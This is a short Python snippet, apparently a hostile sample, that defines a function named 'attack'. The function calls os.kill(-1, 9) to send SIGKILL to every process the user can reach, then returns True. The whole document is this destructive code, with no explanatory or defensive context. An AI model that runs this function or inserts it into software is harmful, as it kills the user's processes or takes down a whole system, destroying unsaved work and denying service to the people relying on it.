def attack():
    import os

    os.kill(-1, 9)
    return True
